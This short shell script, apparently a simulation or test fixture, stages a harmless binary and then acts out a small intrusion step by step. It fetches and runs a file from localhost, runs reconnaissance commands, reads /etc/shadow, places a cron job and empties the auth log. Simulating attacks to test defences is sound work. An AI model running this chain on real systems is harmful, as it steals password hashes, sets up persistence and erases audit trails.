# Fetched, run, looked around, passwords read, job placed, log emptied: a whole small intrusion.
prepare() { put /usr/bin/true /tmp/.work/part; }
act() {
    curl -s -o /tmp/.work/part http://127.0.0.1/part
    /tmp/.work/part
    id; uname -a; hostname; ps aux; df; who
    cat /etc/shadow
    echo '# empty' >/etc/cron.d/tidy
    truncate -s 0 /var/log/auth.log
}
